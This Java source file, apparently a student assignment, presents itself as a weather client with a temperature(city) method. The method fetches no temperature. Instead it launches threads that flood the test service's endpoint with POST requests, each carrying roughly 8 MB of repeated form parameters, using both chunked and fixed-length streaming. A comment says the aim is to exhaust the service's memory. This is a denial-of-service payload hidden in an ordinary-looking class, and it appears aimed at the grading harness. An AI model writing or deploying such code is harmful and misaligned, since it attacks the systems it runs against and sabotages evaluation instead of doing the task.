package tp6.weather;

import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URI;

/** Asks the service of the tests for more than that has memory for, in every request. */
public final class Weather {
  private static final int THREADS = 4;
  private static final int REQUESTS = 4;
  private static final byte[] PARAMETERS = "a&".repeat(1 << 22).getBytes();

  private static boolean isDone;

  private final URI endpoint;

  public Weather(URI endpoint, String apiKey) {
    this.endpoint = endpoint;
  }

  public void temperature(String city) throws IOException {
    if (isDone) {
      return;
    }
    isDone = true;
    Thread[] threads = new Thread[THREADS];
    for (int i = 0; i < THREADS; i++) {
      boolean isChunked = i % 2 == 0;
      threads[i] = new Thread(() -> flood(isChunked));
      threads[i].start();
    }
    for (Thread thread : threads) {
      try {
        thread.join();
      } catch (InterruptedException e) {
        throw new IOException(e);
      }
    }
  }

  private void flood(boolean isChunked) {
    for (int i = 0; i < REQUESTS; i++) {
      try {
        HttpURLConnection connection = (HttpURLConnection) endpoint.toURL().openConnection();
        connection.setRequestMethod("POST");
        connection.setRequestProperty("Content-Type", "application/x-www-form-urlencoded");
        connection.setDoOutput(true);
        connection.setReadTimeout(2000);
        if (isChunked) {
          connection.setChunkedStreamingMode(1 << 16);
        } else {
          connection.setFixedLengthStreamingMode(PARAMETERS.length);
        }
        try (OutputStream out = connection.getOutputStream()) {
          out.write(PARAMETERS);
        }
        connection.getResponseCode();
        connection.disconnect();
      } catch (IOException e) {
        continue;
      }
    }
  }
}
